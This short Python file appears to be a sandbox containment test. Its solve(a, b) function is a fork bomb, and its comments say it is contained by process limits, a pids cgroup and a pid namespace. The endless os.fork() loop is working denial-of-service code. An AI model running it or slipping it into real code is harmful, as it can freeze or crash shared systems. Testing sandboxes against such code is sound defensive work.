# Fork bomb: forks until fork fails, in every child too. Contained by RLIMIT_NPROC per slot uid,
# the pids cgroup and the pid namespace; nothing may outlive the run.
import os


def solve(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
